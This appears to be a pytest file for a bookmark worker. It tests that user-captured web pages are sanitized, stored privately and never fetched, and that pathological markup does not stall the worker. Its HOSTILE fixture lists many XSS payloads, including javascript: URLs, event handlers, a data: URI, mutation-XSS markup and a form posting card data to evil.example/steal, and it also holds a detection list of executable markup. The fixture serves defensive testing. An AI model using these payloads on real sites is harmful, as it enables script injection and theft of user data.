"""Captured pages through the worker: sanitized private snapshots, never fetched, never shared, bounded.

Each test starts from an empty database (as in test_worker.py); the worker runs in-process.
"""

from __future__ import annotations

import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import pytest
from enrichment_support import THUMBNAIL, Db, Site, article_html, enrichment_settings

from common.events import BookmarkDeleted
from devstack.testing import eventually, serve_app
from enrichment import service
from enrichment.domain.model import CapturedPage, Entitlements, SystemClock
from enrichment.pipeline.browser import find_chromium
from enrichment.worker.app import create_worker_app

ALLOWED = Entitlements(exists=True, use_ai=True, is_pro=False)
SECRET = "Quarterly figures only members may read: revenue grew by forty-two percent in the north."

HOSTILE = f"""<!doctype html><html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<title>Members page</title>
<style>body {{ width: expression(alert(2)); background: url(javascript:alert(3)) }}</style>
<script>alert(4)</script>
</head><body onload="alert(5)">
<article><h1>Members page</h1>
<p>{SECRET} The rest of this paragraph is ordinary text about the quarter and what comes next.</p>
<p>Another paragraph of the report that continues with more ordinary words for the analyser.</p>
<img src="/logo.png" onerror="alert(6)">
<svg><script>alert(7)</script><a xlink:href="javascript:alert(8)"><text>svg link</text></a></svg>
<iframe srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;"></iframe>
<a href="javascript:alert(10)">js link</a> <a href=" JaVaScRiPt:alert(11)">mixed case</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=">data link</a>
<form action="https://evil.example/steal" method="post"><input name="card"><button formaction="https://evil.example/2">Go</button></form>
<p style="background: url(javascript:alert(13))" onclick="alert(14)">Styled</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<math><mtext><table><mglyph><style><img src=x onerror=alert(15)></style></mglyph></table></mtext></math>
</article></body></html>"""

EXECUTABLE = (
    "<script", "onerror", "onload", "onclick", "srcdoc", "javascript:", "expression(", "http-equiv",
    "<base", "<form", "formaction", "action=", "<iframe", "<object", "<embed", "data:text", "<style", "alert(",
)  # fmt: skip


@pytest.fixture(scope="module")
async def worker_db(infra: Any) -> AsyncIterator[Db]:
    database = Db(infra.fresh_database("enrichment"))
    yield database
    await database.close()


@pytest.fixture
async def db(worker_db: Db) -> Db:
    tables = await worker_db.rows(
        "SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename <> 'alembic_version'"
    )
    await worker_db.execute(f"TRUNCATE {', '.join(r['tablename'] for r in tables)} RESTART IDENTITY CASCADE")
    return worker_db


def worker_app(infra: Any, db: Db, **overrides: Any) -> Any:
    return create_worker_app(enrichment_settings(infra, db.url, auth_url="http://127.0.0.1:9", **overrides))


async def capture(db: Db, url: str, html: str, *, user: uuid.UUID | None = None) -> tuple[uuid.UUID, str]:
    user = user or uuid.uuid4()
    bookmark = f"bm-{uuid.uuid4().hex[:10]}"
    await service.capture(
        sessions=db.sessions,
        user_id=user,
        client_bookmark_id=bookmark,
        url=url,
        page=CapturedPage(html=html.encode(), title="Members page (browser)"),
        entitlements=ALLOWED,
        clock=SystemClock(),
    )
    return user, bookmark


async def all_jobs_ended(db: Db) -> bool:
    statuses = {row["status"] for row in await db.rows("SELECT status FROM jobs")}
    return bool(statuses) and statuses <= {"completed", "failed"}


async def enrichment_of(db: Db, user: uuid.UUID, bookmark: str) -> Any:
    return await db.one(
        "SELECT status, error_code, result FROM bookmark_enrichments WHERE user_id = :u AND client_bookmark_id = :b",
        u=user,
        b=bookmark,
    )


async def test_a_hostile_captured_page_is_enriched_and_nothing_executable_is_stored(
    infra: Any, db: Db, site: Site
) -> None:
    url = site.url(f"/article/captured-{uuid.uuid4().hex[:8]}")
    user, bookmark = await capture(db, url, HOSTILE)

    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)

    row = await enrichment_of(db, user, bookmark)
    assert row["status"] == "completed", row
    assert SECRET in row["result"]["text"]  # the readable text goes to search
    assert row["result"]["title"] == "Members page"
    assert row["result"]["snapshotStatus"] == "ready"
    assert site.hits[url.removeprefix(site.base_url)] == 0  # the server never fetched the page
    html = await service.read_snapshot(sessions=db.sessions, user_id=user, client_bookmark_id=bookmark, kind="html")
    stored = html.data.decode()
    assert SECRET in stored
    lowered = stored.lower()
    assert [bad for bad in EXECUTABLE if bad in lowered] == []
    text = await service.read_snapshot(
        sessions=db.sessions, user_id=user, client_bookmark_id=bookmark, kind="readable_text"
    )
    assert SECRET in text.data.decode()
    # Private: nothing reached the shared cache or the shared snapshots, and the captured HTML is gone.
    assert await db.rows("SELECT 1 FROM results_cache") == []
    assert await db.rows("SELECT 1 FROM snapshots") == []
    assert await db.rows("SELECT 1 FROM captured_pages") == []


async def test_another_users_enqueue_of_the_url_never_sees_the_captured_page(infra: Any, db: Db, site: Site) -> None:
    key = uuid.uuid4().hex[:8]
    url = site.url(f"/article/{key}")
    owner, owner_bookmark = await capture(db, url, HOSTILE)
    other = uuid.uuid4()
    other_bookmark = f"bm-{uuid.uuid4().hex[:10]}"
    outcome = await service.enqueue(
        sessions=db.sessions,
        user_id=other,
        client_bookmark_id=other_bookmark,
        url=url,
        client_saved_at=None,
        entitlements=ALLOWED,
        clock=SystemClock(),
    )
    assert not outcome.cache_hit

    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)

    assert site.hits[f"/article/{key}"] == 1  # fetched once, for the other user's own job
    mine = await enrichment_of(db, owner, owner_bookmark)
    theirs = await enrichment_of(db, other, other_bookmark)
    assert SECRET in mine["result"]["text"]
    assert theirs["status"] == "completed"
    assert f"Sourdough guide {key}" == theirs["result"]["title"]
    assert SECRET not in str(theirs["result"])
    cached = await db.rows("SELECT result FROM results_cache")
    assert len(cached) == 1 and SECRET not in str(cached[0]["result"])
    for row in await db.rows("SELECT data FROM snapshots"):
        assert SECRET.encode() not in bytes(row["data"])
    their_html = await service.read_snapshot(
        sessions=db.sessions, user_id=other, client_bookmark_id=other_bookmark, kind="html"
    )
    my_html = await service.read_snapshot(
        sessions=db.sessions, user_id=owner, client_bookmark_id=owner_bookmark, kind="html"
    )
    assert SECRET.encode() not in their_html.data
    assert SECRET.encode() in my_html.data

    # A later enqueue by a third user is served from the cache, which holds only the fetched page.
    third = uuid.uuid4()
    hit = await service.enqueue(
        sessions=db.sessions,
        user_id=third,
        client_bookmark_id="b",
        url=url,
        client_saved_at=None,
        entitlements=ALLOWED,
        clock=SystemClock(),
    )
    assert hit.cache_hit
    assert SECRET not in str((await enrichment_of(db, third, "b"))["result"])


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<div>" * 50_000 + "deep text" + "</div>" * 50_000, id="50000-deep"),
        pytest.param('<p title="' + "a" * (5 * 1024 * 1024) + '">huge attribute</p>', id="5-MiB-attribute"),
        pytest.param("<table><tr><td>" * 20_000, id="unclosed-tables"),
        pytest.param("", id="empty"),
    ],
)
async def test_hostile_markup_neither_crashes_nor_stalls_the_worker(infra: Any, db: Db, site: Site, html: str) -> None:
    user, bookmark = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), html)

    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=120)

    row = await enrichment_of(db, user, bookmark)
    assert row["status"] == "completed", row
    assert await db.rows("SELECT 1 FROM captured_pages") == []


async def test_the_screenshot_renders_the_captured_dom_with_the_network_blocked(infra: Any, db: Db, site: Site) -> None:
    if find_chromium() is None:
        pytest.skip("no Chromium installed")
    asset = site.url(f"/asset/{uuid.uuid4().hex[:8]}")
    html = f"""<!doctype html><html><head><title>Offline render</title>
    <link rel="stylesheet" href="{asset}/style.css"><script src="{asset}/app.js"></script>
    <style>body {{ background: url({asset}/bg.png); font: 20px serif }}</style></head>
    <body><h1>Rendered without the network</h1><p>{SECRET}</p><img src="{asset}/img.png">
    <iframe src="{asset}/frame.html"></iframe><video src="{asset}/v.mp4" autoplay></video>
    <meta http-equiv="refresh" content="0;url={asset}/refresh"></body></html>"""
    user, bookmark = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), html)

    async with serve_app(worker_app(infra, db, browser="required")):
        await eventually(lambda: all_jobs_ended(db), timeout=120)

    row = await enrichment_of(db, user, bookmark)
    assert row["status"] == "completed", row
    assert row["result"]["snapshotStatus"] == "completed"
    shot = await service.read_snapshot(
        sessions=db.sessions, user_id=user, client_bookmark_id=bookmark, kind="screenshot"
    )
    assert shot.data.startswith(b"\x89PNG\r\n\x1a\n")
    assert [path for path in site.hits if path.startswith(asset.removeprefix(site.base_url))] == []


async def test_deleting_the_account_removes_its_captures(infra: Any, db: Db, site: Site) -> None:
    user, bookmark = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), HOSTILE)
    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)
    assert await db.rows("SELECT 1 FROM private_snapshots WHERE user_id = :u", u=user)
    await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), HOSTILE, user=user)
    assert await db.rows("SELECT 1 FROM captured_pages WHERE user_id = :u", u=user)

    async with db.sessions() as session, session.begin():
        await service.purge_user(session, user)

    for table in ("private_snapshots", "captured_pages", "bookmark_enrichments"):
        assert await db.rows(f"SELECT 1 FROM {table} WHERE user_id = :u", u=user) == [], table  # noqa: S608
    assert await db.rows("SELECT 1 FROM jobs WHERE private_for = :u", u=user) == []


async def test_a_merge_moves_captures_to_the_target_account(infra: Any, db: Db, site: Site) -> None:
    source, bookmark = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), HOSTILE)
    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)
    target = uuid.uuid4()

    async with db.sessions() as session, session.begin():
        await service.merge_users(session, source=source, target=target)

    moved = await service.read_snapshot(sessions=db.sessions, user_id=target, client_bookmark_id=bookmark, kind="html")
    assert SECRET.encode() in moved.data
    assert await db.rows("SELECT 1 FROM private_snapshots WHERE user_id = :u", u=source) == []
    assert await db.scalar("SELECT count(*) FROM jobs WHERE private_for = :u", u=target) == 1


async def test_a_deleted_bookmarks_captures_are_removed_by_housekeeping(infra: Any, db: Db, site: Site) -> None:
    user, bookmark = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), HOSTILE)
    kept_user, kept = await capture(db, site.url(f"/article/{uuid.uuid4().hex[:8]}"), HOSTILE)
    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)
    deleted = BookmarkDeleted(
        userId=user, clientBookmarkId=bookmark, normalizedUrl=None, deletedAt=datetime.now(UTC), eventId=uuid.uuid4()
    )
    async with db.sessions() as session, session.begin():
        await service.apply_bookmark_deleted(session, deleted)

    await service.housekeeping(sessions=db.sessions, job_retention_seconds=3600)

    assert await db.rows("SELECT 1 FROM private_snapshots WHERE user_id = :u", u=user) == []
    assert await db.rows("SELECT 1 FROM private_snapshots WHERE user_id = :u", u=kept_user)
    assert (
        await service.read_snapshot(sessions=db.sessions, user_id=kept_user, client_bookmark_id=kept, kind="html")
    ).data


async def test_a_captured_pages_image_at_a_private_address_is_never_fetched(infra: Any, db: Db, site: Site) -> None:
    key = uuid.uuid4().hex[:8]
    image = site.url(f"/image/png/{key}")  # 127.0.0.1: private, and the worker here refuses private addresses
    user, bookmark = await capture(db, f"https://example.com/{key}", article_html(key, image=image))

    async with serve_app(worker_app(infra, db, allow_private_networks=False)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)

    row = await enrichment_of(db, user, bookmark)
    assert row["status"] == "completed", row
    assert row["result"]["title"] == f"Sourdough guide {key}"
    assert row["result"]["thumbnailUrl"] is None
    assert site.hits[f"/image/png/{key}"] == 0
    assert await db.rows("SELECT 1 FROM private_snapshots WHERE kind = 'thumbnail'") == []


async def test_a_captured_pages_image_is_fetched_and_stored_privately(infra: Any, db: Db, site: Site) -> None:
    key = uuid.uuid4().hex[:8]
    image = site.url(f"/image/png/{key}")
    user, bookmark = await capture(db, f"https://example.com/{key}", article_html(key, image=image))

    async with serve_app(worker_app(infra, db)):
        await eventually(lambda: all_jobs_ended(db), timeout=90)

    row = await enrichment_of(db, user, bookmark)
    assert row["result"]["thumbnailUrl"] == THUMBNAIL.path
    assert site.hits[f"/image/png/{key}"] == 1
    thumbnail = await service.read_snapshot(
        sessions=db.sessions, user_id=user, client_bookmark_id=bookmark, kind="thumbnail"
    )
    assert (thumbnail.content_type, thumbnail.data) == ("image/webp", THUMBNAIL.data)
    assert await db.rows("SELECT 1 FROM snapshots") == []  # private: nothing shared
